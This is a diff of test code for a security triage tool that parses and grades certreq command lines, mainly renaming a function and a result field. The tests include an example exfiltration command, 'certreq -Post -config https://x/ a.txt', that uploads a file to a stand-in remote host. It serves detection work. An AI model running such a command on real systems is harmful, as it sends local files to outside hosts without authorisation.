@@ -4,7 +4,7 @@ import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { CORPUS } from '../helpers/paths.js';
 import { isCertreqName, parseCertreqCommandLine } from '../../src/triage/certreq.js';
-import { triage } from '../../src/triage/severity.js';
+import { gradeCertreq } from '../../src/triage/severity.js';
 import { classifyPath } from '../../src/triage/paths.js';
 import { parseConfigTarget } from '../../src/triage/target.js';
 import { needs } from '../helpers/requirements.js';
@@ -116,12 +116,12 @@ test('every corpus row: verb, target, file sent, response file and severity as i
   for (const row of rows) {
     const [line, verb, target, upload, response, severity] = EXPECTED.find((e) => e[0] === row.line)!;
     assert.equal(line, row.line);
-    const t = triage({ ruleId: 'certreq-download-upload', ruleTitle: 'x', image: row.image, ...(row.ofn ? { originalFileName: row.ofn } : {}), commandLine: row.commandLine });
+    const t = gradeCertreq({ image: row.image, ...(row.ofn ? { originalFileName: row.ofn } : {}), commandLine: row.commandLine });
     const where = `line ${row.line}: ${row.commandLine}`;
-    assert.equal(t.certreq?.verb ?? null, verb, where);
-    assert.equal(t.certreq?.target?.kind ?? null, target, where);
-    assert.equal(t.certreq?.upload_file ?? null, upload, where);
-    assert.equal(t.certreq?.response_file ?? null, response, where);
+    assert.equal(t.intent?.verb ?? null, verb, where);
+    assert.equal(t.intent?.target?.kind ?? null, target, where);
+    assert.equal(t.intent?.upload_file ?? null, upload, where);
+    assert.equal(t.intent?.response_file ?? null, response, where);
     assert.equal(t.severity, severity, where);
     assert.ok(t.reason.length > 10 && !t.reason.includes('\n'), where);
     // Malicious rows are never graded below medium; benign ones never above low.
@@ -224,7 +224,7 @@ test('sensitive paths and remote shares are flagged', () => {
 
 test('program names: certreq with or without .exe, any case, any path; a leading blank', () => {
   assert.equal(parseCertreqCommandLine(' certreq -Post -config https://x/ a.txt')!.upload_file, 'a.txt');
-  assert.equal(triage({ ruleId: 'certreq-download-upload', ruleTitle: 'x', image: 'C:\\Windows\\System32\\certreq.exe', commandLine: ' certreq -Post -config https://x/ a.txt' }).certreq?.upload_file, 'a.txt');
+  assert.equal(gradeCertreq({ image: 'C:\\Windows\\System32\\certreq.exe', commandLine: ' certreq -Post -config https://x/ a.txt' }).intent?.upload_file, 'a.txt');
   assert.ok(isCertreqName('C:\\Windows\\SysWOW64\\CERTREQ.EXE'));
   assert.ok(isCertreqName('certreq'));
   assert.ok(!isCertreqName('C:\\Users\\Public\\cr.exe'));
